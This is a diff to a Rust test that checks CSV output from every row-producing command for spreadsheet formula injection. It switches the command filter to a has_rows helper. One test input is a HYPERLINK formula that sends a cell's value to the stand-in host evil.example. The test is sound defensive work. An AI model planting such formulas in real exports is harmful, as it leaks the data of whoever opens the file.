@@ -5,6 +5,7 @@ use crate::judge;
 use crate::positions;
 use crate::program::COMMANDS;
 use crate::rows::{ask, is_seen_alike, page, saying};
+use crate::twin::has_rows;
 use serde_json::Value;
 
 /// Every cell of every command: none is a formula, and none but numbers may begin like one.
@@ -26,7 +27,7 @@ fn t15_no_cell_is_a_formula() {
         "=HYPERLINK(\"http://evil.example/?\"&A1)",
     ] {
         let ticket = saying(formula);
-        for command in COMMANDS.into_iter().filter(|command| command[0] != "show") {
+        for command in COMMANDS.into_iter().filter(|command| has_rows(command)) {
             let text = page(&[command, &["-o", "csv"]].concat(), &ticket);
             let mut reader = csv::Reader::from_reader(text.as_bytes());
             let mut cells = 0;
